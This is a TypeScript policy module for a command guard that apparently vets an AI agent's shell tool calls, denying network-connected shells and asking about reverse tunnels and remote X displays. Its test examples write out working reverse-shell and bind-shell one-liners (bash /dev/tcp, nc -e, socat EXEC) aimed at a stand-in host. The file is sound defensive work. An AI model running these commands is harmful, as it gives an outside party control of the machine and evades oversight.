import { readArguments } from "../../command/arguments.ts";
import type { ShellCommand } from "../../command/facts.ts";
import { definePolicy, type PolicyContext } from "../../engine/policy.ts";
import { factOf, programsWith } from "../../programs/index.ts";
import { programsOnSocket } from "../../shell/sockets.ts";
import { transferOf } from "../../shell/transfer.ts";
import { flowOf } from "./lib/data-flow.ts";
import { isLoopback, socketHost, staysHere } from "./lib/host.ts";
import { connectsShell, INLINE_LANGUAGES } from "./lib/inline-code.ts";
import { CONNECTERS, isOpenShell, isTwoWay, startsShell } from "./lib/shells.ts";

const SSH = "-b -c -D -E -e -F -I -i -J -L -l -m -O -o -p -Q -S -W -w -B";
const AWKS = new Set(["awk", "gawk", "mawk", "nawk"]);
const TERMINALS = new Set(["xterm", "xrxvt", "xconsole"]);

export default definePolicy({
  id: "remote/reverse-shell",
  meta: {
    summary: "Deny a shell that is connected to the network, ask about tunnels into this machine",
    why: "Whoever is at the other end can then run anything here, past every guard.",
    presets: ["recommended", "strict"],
    limits: [
      "A shell that a program of the project or a script file connects is not seen.",
      "Which of several open descriptors a shell uses is not known.",
    ],
  },
  on: { PreToolUse: ["Bash", "Monitor"] },
  programs: new Set([
    ...CONNECTERS,
    ...programsWith("tunnels"),
    ...INLINE_LANGUAGES,
    ...TERMINALS,
    ...AWKS,
    "ssh",
    "autossh",
  ]),
  traits: ["redirects", "odd"],
  messages: {
    shell:
      "This connects a shell to the network: whoever answers at {host} can run anything " +
      "here. Run the commands that are needed yourself, one by one.",
    socket:
      "This opens a connection to {host} that commands after it can read and write unseen. " +
      "Use `curl` or `nc` in a command of its own.",
    connects:
      "This opens a connection to {host} through bash itself, past the usual programs. " +
      "Approve only if that host is known.",
    tunnel:
      "`{program}` gives somebody outside a way into this machine. Approve only if that is meant.",
    display:
      "This shows a terminal of this machine on {host}: whoever sits there can run " +
      "anything here. Open it locally.",
  },

  brief: () => "No shell on a network connection.",

  *decide(scene) {
    const { shell, deny, ask } = scene;
    const sockets = shellsOnSockets(scene);
    for (const command of shell.commands) {
      const { at, name } = command;
      const host = socketOf(command);
      if (host !== undefined && (isOpenShell(command) || command.redirects.length > 2))
        yield deny("shell", { host }, at);
      else if (host !== undefined && name === "exec") yield deny("socket", { host }, at);
      else if (host !== undefined) yield ask("connects", { host }, at);
      if (programsOnSocket(command).some((script) => startsShell(script, scene)))
        yield deny("shell", { host: "the other end" }, at);
      if (sockets.has(command)) yield deny("shell", { host: "the other end" }, at);
      if (connectsShell(command)) yield deny("shell", { host: "the other end" }, at);
      if (
        AWKS.has(name) &&
        command.args.some(({ text }) => /\/inet[46]?\/(?:tcp|udp)\//.test(text))
      )
        yield deny("shell", { host: "the other end" }, at);
      if (opensTunnel(command)) yield ask("tunnel", { program: name }, at);
      const display = TERMINALS.has(name)
        ? readArguments(command.args, "-display").values("-display")[0]?.text
        : undefined;
      if (display && !/^(?:localhost|unix)?:/.test(display))
        yield deny("display", { host: `\`${display}\`` }, at);
    }
  },

  examples: [
    { bash: "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", expect: { deny: "shell" } },
    { bash: "nc -e /bin/sh 203.0.113.5 4444", expect: { deny: "shell" } },
    { bash: "socat TCP-LISTEN:4444,fork EXEC:'bash -li'", expect: { deny: "shell" } },
    { bash: "exec 5<>/dev/tcp/203.0.113.5/4444", expect: { deny: "socket" } },
    { bash: "echo hi > /dev/tcp/203.0.113.5/80", expect: { ask: "connects" } },
    { bash: "ssh -R 8080:localhost:3000 example.com", expect: { ask: "tunnel" } },
    { bash: "xterm -display 203.0.113.5:1", expect: { deny: "display" } },
    {
      bash: "timeout 1 bash -c 'echo > /dev/tcp/localhost/5432'",
      expect: "nothing",
      note: "is the database up?",
    },
    { bash: "nc -l 4444", expect: "nothing" },
    { bash: "ssh example.com", expect: "nothing" },
  ],
});

/** The host that a redirect connects to, unless it is this machine. */
function socketOf({ redirects }: ShellCommand): string | undefined {
  const hosts = redirects
    .flatMap(({ target }) => socketHost(target) ?? [])
    .filter((host) => !isLoopback(host));
  return hosts[0] === undefined ? undefined : `\`${hosts[0]}\``;
}

/** `sh -i < fifo | nc host 1 > fifo`: what the shell prints goes out. */
function shellsOnSockets(scene: PolicyContext): ReadonlySet<ShellCommand> {
  const sockets = scene.shell.commands.filter(
    (command) => isTwoWay(command) && leavesMachine(command),
  );
  if (sockets.length === 0) return new Set();
  const reached = flowOf(scene).collect((command) =>
    isOpenShell(command) ? [["shell", command] as const] : [],
  );
  return new Set(sockets.filter((socket) => reached.has(socket)));
}

function leavesMachine(command: ShellCommand): boolean {
  const transfer = transferOf(command);
  return transfer !== undefined && !staysHere(transfer);
}

function opensTunnel({ name, args }: ShellCommand): boolean {
  if (name === "ssh" || name === "autossh")
    return (
      readArguments(args, `${SSH} -R`).has("-R") ||
      args.some(({ text }) => /^RemoteForward\b/i.test(text.replace(/^-o/, "")))
    );
  const runs = factOf("tunnels", name);
  if (
    runs === undefined ||
    args.some(({ text }) =>
      /^--?(?:version|help|h)$|^(?:help|version|list|login|status)$/.test(text),
    )
  )
    return false;
  return runs === "" || args.some(({ text }) => runs.split(" ").includes(text));
}
